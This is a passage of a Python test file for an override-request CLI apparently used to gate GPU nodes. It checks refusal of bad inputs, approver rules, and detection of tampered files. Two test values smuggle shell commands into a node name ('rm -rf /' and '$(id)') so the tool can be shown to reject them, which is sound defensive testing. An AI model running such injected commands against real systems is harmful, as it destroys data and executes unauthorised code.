    (_request_args(**{"--nodes": "gpu07;rm -rf /"}), "invalid node name 'gpu07;rm -rf /'"),
    (_request_args(**{"--nodes": "gpu[07-08],$(id)"}), "invalid node name"),
    (_request_args(**{"--expires": "8d"}), "expiry 8d is over the cap of policy 'release' (1w)"),
    (_request_args(**{"--expires": "0h"}), "must expire"),
    (_request_args(**{"--expires": "forever"}), "--expires 'forever': expected a duration"),
    (_request_args(**{"--reason": " "}), "reason must not be empty"),
    (_request_args(**{"--check": "nccl*"}), "no wildcards"),
    (_request_args(**{"--policy": "nope"}), "no gate policy 'nope'"),
])
def test_cli_request_refusals(cli_env: Path, remote: Path, args: list[str], why: str) -> None:
    code, _, exc = run(*args)
    assert isinstance(exc, ConfigError) and why in str(exc), exc
    assert remote_files(remote) == {}  # nothing was stored


@pytest.mark.slow
def test_cli_approve_refusals(cli_env: Path, remote: Path,
                              monkeypatch: pytest.MonkeyPatch, stetho_env: StethoEnv) -> None:
    code, out, exc = run(*_request_args())
    oid = out.splitlines()[0]
    cases = [
        (["--approver", "alice", "--acknowledge", ACK], "alice cannot approve their own"),
        (["--approver", "Alice", "--acknowledge", ACK], "Alice cannot approve their own"),
        (["--approver", "mallory", "--acknowledge", ACK], "mallory is not an approver"),
        (["--approver", "bob", "--acknowledge", ACK + " "], "acknowledgement must be exactly"),
        (["--approver", "bob", "--acknowledge", ACK.upper()], "acknowledgement must be exactly"),
    ]
    for extra, why in cases:
        code, _, exc = run("approve", oid, *extra)
        assert isinstance(exc, ConfigError) and why in str(exc), (extra, exc)
    code, _, exc = run("approve", oid, "--approver", "bob", "--acknowledge", ACK,
                       env={"STETHO_OVERRIDE_KEY": "tooshort"})
    assert isinstance(exc, ConfigError) and "too short" in str(exc)
    stetho_env.delenv("STETHO_OVERRIDE_KEY")
    code, _, exc = run("approve", oid, "--approver", "bob", "--acknowledge", ACK)
    assert isinstance(exc, ConfigError) and "STETHO_OVERRIDE_KEY is not set" in str(exc)
    assert remote_files(remote)[oid].approver is None
    stetho_env.setenv("STETHO_USER", "bob")  # the default approver
    stetho_env.setenv("STETHO_OVERRIDE_KEY", KEY.hex())
    code, _, exc = run("approve", oid, "--acknowledge", ACK)
    assert code == 0, exc
    code, _, exc = run("approve", oid, "--approver", "carol", "--acknowledge", ACK)
    assert isinstance(exc, ConfigError) and "already approved by bob" in str(exc)
    code, _, exc = run("list", env={"STETHO_OVERRIDE_REPO": ""})
    assert isinstance(exc, ConfigError) and "no override repository" in str(exc)


@pytest.mark.slow
def test_cli_list_survives_garbage_and_tampering(cli_env: Path, remote: Path) -> None:
    code, out, _ = run(*_request_args())
    oid = out.splitlines()[0]
    run("approve", oid, "--approver", "bob", "--acknowledge", ACK)
    path = cli_env / "overrides" / f"{oid}.json"
    d = json.loads(path.read_text())
    d["nodes"].append("gpu09")
    path.write_text(json.dumps(d))
    (cli_env / "overrides" / "junk.json").write_bytes(b"\x00\x01garbage")
    git(cli_env, "commit", "-qam", "widen by hand")
    git(cli_env, "add", "overrides/junk.json")
    git(cli_env, "commit", "-qm", "junk")
    code, out, exc = run("list")
    assert code == 0, exc
    rows = {line.split()[0]: line for line in out.splitlines()[1:]}
    assert rows[oid].endswith(f"invalid: {SIG_MISMATCH}")
    assert "gpu[07-09]" in rows[oid]
    assert "invalid: overrides/junk.json: not valid JSON" in rows["junk"]
    code, out, _ = run("list", "--json")
    states = {r["id"]: r["state"] for r in json.loads(out)}
    assert states[oid] == f"invalid: {SIG_MISMATCH}"
    assert states["junk"].startswith("invalid: overrides/junk.json")


def test_cli_without_a_policy_loader_falls_back_to_gate_policies(
        monkeypatch: pytest.MonkeyPatch) -> None:
    import importlib.util

    monkeypatch.setattr(cli_override, "POLICY_LOADER", None)
    if importlib.util.find_spec("stetho.gate.policy") is not None:
        policy = cli_override.load_policy("release")  # gates/release.yml, through gatepolicy
        assert isinstance(policy, OverridePolicy) and policy.name == "release"
        return
    with pytest.raises(ConfigError, match="cannot load gate policy 'release': gate policies "
                                          "are not available"):
        cli_override.load_policy("release")
